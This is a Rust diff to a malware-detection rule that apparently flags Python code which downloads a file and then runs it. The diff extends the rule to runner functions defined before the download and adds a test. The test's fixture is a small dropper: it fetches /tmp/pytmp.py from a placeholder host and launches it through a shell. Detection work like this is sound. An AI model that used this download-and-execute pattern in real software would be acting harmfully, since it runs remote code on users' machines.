@@ -691,8 +691,46 @@ fn check_runs_saved_file(
     context: ExecContext,
 ) {
     let Some(saved) = checker.saved_file_in(command, command_arg).cloned() else {
+        checker.defer_start(call.range(), qualname, command);
         return;
     };
+    let (message, severity) = runs_saved_file(&saved, qualname, command, context);
+    checker.report(
+        &RULE,
+        call.range(),
+        message,
+        severity,
+        vec!["spawn", "runs-saved-file"],
+    );
+}
+
+/// The starts that named no file saved before them, matched against every file the module
+/// saves: `def run(): os.system('python3 /tmp/x.py')` defined above `def fetch(): urlretrieve(…,
+/// '/tmp/x.py'); run()` is the same dropper.
+pub fn check_pending_starts(checker: &mut Checker) {
+    for start in checker.take_pending_starts() {
+        let Some(saved) = checker.saved_file_named_in(&start.command).cloned() else {
+            continue;
+        };
+        let (message, severity) =
+            runs_saved_file(&saved, &start.qualname, &start.command, start.context);
+        checker.report_at(
+            &RULE,
+            &start,
+            message,
+            severity,
+            vec!["spawn", "runs-saved-file"],
+        );
+    }
+}
+
+/// The message and weight of a start of the file `saved`.
+fn runs_saved_file(
+    saved: &crate::walker::SavedFile,
+    qualname: &str,
+    command: &str,
+    context: ExecContext,
+) -> (String, f64) {
     let downloaded = saved.what != crate::walker::SavedFile::PYTHON_SOURCE;
     let name = saved.path.rsplit(['/', '\\']).next().unwrap_or(&saved.path);
     // A dot-file, or a start that throws every line of output away, is hiding from the user.
@@ -706,23 +744,18 @@ fn check_runs_saved_file(
         (ExecContext::Runtime, false) => 0.3,
         (ExecContext::TestOrDocs, _) => 0.05,
     };
-    checker.report(
-        &RULE,
-        call.range(),
-        format!(
-            "{qualname} starts `{}`, the file that received {} at {}{}",
-            crate::text::shorten(shown_path(&saved), 100),
-            saved.what,
-            saved.location,
-            if concealed {
-                ", hidden from the user"
-            } else {
-                ""
-            }
-        ),
-        severity,
-        vec!["spawn", "runs-saved-file"],
+    let message = format!(
+        "{qualname} starts `{}`, the file that received {} at {}{}",
+        crate::text::shorten(shown_path(saved), 100),
+        saved.what,
+        saved.location,
+        if concealed {
+            ", hidden from the user"
+        } else {
+            ""
+        }
     );
+    (message, severity)
 }
 
 /// The saved path as a reader recognises it: its text, or the variable when the text is unknown.
@@ -1055,6 +1088,25 @@ mod tests {
         let other = "import os, urllib.request\ndef go():\n    urllib.request.urlretrieve('https://example.invalid/data.csv', 'data.csv')\n    os.system('bash tools/build.sh')\n";
         assert!(
             crate::rules::testing::findings("p/pkg/m.py", other)
+                .iter()
+                .all(|f| !f.tags.contains(&"runs-saved-file"))
+        );
+    }
+
+    #[test]
+    fn a_runner_defined_before_the_download_still_starts_the_downloaded_file() {
+        let code = "import subprocess\nfrom urllib import request\ndef runme():\n    subprocess.call('python3 /tmp/pytmp.py', shell=True)\ndef fetch():\n    request.urlretrieve('https://x.example.invalid/pytmp.py', '/tmp/pytmp.py')\n    runme()\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", code);
+        let run = found
+            .iter()
+            .find(|f| f.tags.contains(&"runs-saved-file"))
+            .expect("the later download is what the earlier function starts");
+        assert_eq!(run.line, 4);
+        assert!(run.severity >= 0.6, "{run:?}");
+        // A start of some other program is still not matched after the walk.
+        let other = code.replace("python3 /tmp/pytmp.py", "python3 tools/build.py");
+        assert!(
+            crate::rules::testing::findings("p/pkg/m.py", &other)
                 .iter()
                 .all(|f| !f.tags.contains(&"runs-saved-file"))
         );
